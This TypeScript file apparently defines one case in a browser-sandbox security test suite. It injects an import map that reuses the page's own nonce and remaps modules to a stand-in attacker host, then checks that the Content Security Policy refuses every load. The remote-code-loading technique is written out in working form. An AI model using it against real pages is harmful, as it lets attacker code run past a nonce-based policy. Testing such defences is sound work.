import type { JsonValue } from '../../contract/index.ts';
import type { Attack } from '../attack.ts';
import { ownNonce } from '../own-nonce.ts';

export const attack: Attack = {
  id: '102',
  group: 'exfiltration',
  title: 'poison the import map: remap modules to elsewhere, with the page’s own nonce',
  expected: '0 hits: a map may point elsewhere, the policy does not let it load',
  heardOnAnOrdinaryPage: true,
  async guest({ evil, pause }): Promise<JsonValue> {
    const map = document.createElement('script');
    map.type = 'importmap';
    map.nonce = ownNonce();
    map.textContent = JSON.stringify({
      imports: {
        'portico:/main.js': `${evil}/102/main`,
        remote: `${evil}/102/remote`,
        'data-module': 'data:text/javascript,1',
      },
      scopes: { 'blob:null/': { 'portico:/chunk.js': `${evil}/102/scoped` } },
    });
    document.head.append(map);
    const outcomes: string[] = [];
    for (const name of ['remote', 'portico:/chunk.js', `${evil}/102/direct`, 'data-module']) {
      await import(/* @vite-ignore */ name).then(
        () => outcomes.push('loaded'),
        () => outcomes.push('refused'),
      );
    }
    await pause(300);
    return outcomes;
  },
  judge: () => undefined,
};
